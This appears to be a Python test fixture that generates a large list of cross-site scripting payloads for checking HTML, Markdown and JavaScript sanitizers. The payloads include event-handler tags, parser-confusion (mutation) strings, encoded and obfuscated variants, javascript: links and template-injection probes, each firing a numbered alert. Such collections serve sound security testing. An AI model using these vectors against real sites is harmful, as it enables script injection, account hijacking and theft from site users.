"""Texts that run a script wherever they are taken for HTML, Markdown or JavaScript; each says its number when it runs."""

from __future__ import annotations

from collections.abc import Callable, Iterator

ELEMENTS = (
    "<script>@</script>", "<script src='data:text/javascript,@'></script>", "<script>@//", "<script\n>@</script\n>",
    "<img src=x onerror=@>", "<img/src=x/onerror=@//", "<img src=x onerror='@'", "<image src=x onerror=@>",
    "<svg onload=@>", "<svg/onload=@>", "<svg><script>@</script></svg>", "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:@'><text y=9>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg onload=@>'>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>", "<iframe src='javascript:parent.@'></iframe>", "<iframe onload=@>",
    "<object data='javascript:@'>", "<embed src='javascript:@'>", "<details open ontoggle=@>x", "<body onload=@>",
    "<video><source onerror=@></video>", "<audio src=x onerror=@>", "<video poster=x src=x onerror=@>", "<marquee onstart=@>x",
    "<input autofocus onfocus=@>", "<select autofocus onfocus=@>", "<textarea autofocus onfocus=@>", "<p onclick=@>x",
    "<form action='javascript:@'><button>x</button></form>", "<button formaction='javascript:@'>x", "<isindex action=javascript:@>",
    "<a href='javascript:@'>x</a>", "<a href=java&#9;script:@>x</a>", "<a href=' &#1;javascript:@'>x</a>",
    "<math><a href='javascript:@'>x</a></math>", "<math href='javascript:@'>x", "<base href='javascript:@//'>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>", "<link rel=stylesheet href=x onerror=@>",
    "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=@>", "<style onload=@></style>",
    "<noscript><p title='</noscript><img src=x onerror=@>'>", "<template><img src=x onerror=@></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=@>'>", "<xmp><p title='</xmp><img src=x onerror=@>'>",
    "<!--><img src=x onerror=@>-->", "<!-- --!><img src=x onerror=@>", "<?x ><img src=x onerror=@>", "<![CDATA[><img src=x onerror=@>]]>",
    "<<img src=x onerror=@>", "<x onclick=@>x</x>", "<x/onpointerenter=@>x",
)  # fmt: skip
OPENINGS = ('">', "'>", "</title>", "</textarea></script></style>", "--> ", "]]>", "` ", "&quot;&gt;", "\\", '"/> ')
OBFUSCATED: tuple[Callable[[str], str], ...] = (
    str.swapcase,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&#62;"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),  # what NFKC makes of them
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "<\u200b").replace("on", "o\u200bn"),
)
ADDRESSES = (
    "javascript:@", "jAvAsCrIpT:@", "java&#x09;script:@", "java&#10;script:@", "&#106;avascript:@", "javascript&colon;@",
    "java\tscript:@", "\x01javascript:@", " javascript:@", "vbscript:@", "data:text/html,<script>@</script>",
    "javascript://x%0a@", "//x/?'onmouseover='@", 'http://a.b "onmouseover=@"', "http://a.b/'onclick=@//", "feed:javascript:@",
)  # fmt: skip
LINKS = (
    "[x](A)", "[x](<A>)", "![x](A)", "<A>", "[x]\n\n[x]: A", "[x](http://a.b 'A')", "[x](A){: onclick=@ }", "[A][A]", "> [x](A)",
    "- [x](A)", "| a |\n| --- |\n| [x](A) |", "# [x](A) {#x onclick=@}", "``` x' onclick=@\nA\n```", "x[^1]\n\n[^1]: [x](A)",
)  # fmt: skip
SCRIPTS = (
    '";@//', "';@//", "\\';@//", '\\";@//', '");@;//', "`;@//", "${@}", "*/@/*", "\u2028@//", "</script><script>@</script>",
    "<!--<script>@//", "-@-", "{{@}}", "{% @ %}", "{{''.__class__.__mro__}}@", "<%= @ %>", "#{@}", "}]);@;//", "constructor.constructor('@')()",
)  # fmt: skip


def _texts() -> Iterator[str]:
    yield from ELEMENTS
    yield from (opening + element for element in ELEMENTS for opening in OPENINGS)
    yield from (obfuscate(element) for element in ELEMENTS for obfuscate in OBFUSCATED)
    yield from (link.replace("A", address) for link in LINKS for address in ADDRESSES)
    yield from SCRIPTS


PAYLOADS = tuple(text.replace("@", f"alert({number})") for number, text in enumerate(dict.fromkeys(_texts())))
